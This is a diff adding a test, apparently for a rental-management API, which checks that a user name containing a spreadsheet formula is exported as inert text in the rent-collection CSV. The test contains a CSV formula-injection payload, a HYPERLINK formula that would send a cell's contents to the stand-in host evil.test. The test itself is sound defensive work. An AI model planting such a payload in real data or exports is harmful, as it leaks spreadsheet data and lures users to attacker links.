@@ -156,3 +156,31 @@ describe('rent collection', () => {
     }
   });
 });
+
+describe('CSV formula injection', () => {
+  it('writes a member whose name is a formula as text in the rent collection CSV', async () => {
+    const own = await startTestApi();
+    try {
+      const boss = await own.admin('csv-boss');
+      const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Pay here")';
+      const eve = await own.user('csv-eve');
+      expect((await own.call('PUT', '/api/users', { token: eve, body: { name: formula } })).status).toBe(200);
+      const { apartments } = (await own.call('GET', '/api/apartments?limit=50')).body;
+      const free = apartments.find((a: { available: boolean }) => a.available);
+      const applied = await own.call('POST', '/api/agreements', { token: eve, body: { apartmentId: free._id } });
+      expect(applied.status).toBe(201);
+      expect((await own.call('PATCH', `/api/agreements/${applied.body._id}`, { token: boss, body: { action: 'accept' } })).status).toBe(200);
+
+      const res = await fetch(`${own.url}/api/admin/rent-collection/csv?month=2026-11`, { headers: { authorization: `Bearer ${boss}` } });
+      expect(res.status).toBe(200);
+      const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
+      const row = lines.find((l) => l.includes('evil.test'));
+      expect(row).toBeDefined();
+      expect(row!.startsWith(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Pay here"")",`)).toBe(true);
+      // Amounts stay plain numbers a spreadsheet can add up.
+      expect(row!.split(',').at(-4)).toMatch(/^\d+$/);
+    } finally {
+      await own.close();
+    }
+  });
+});
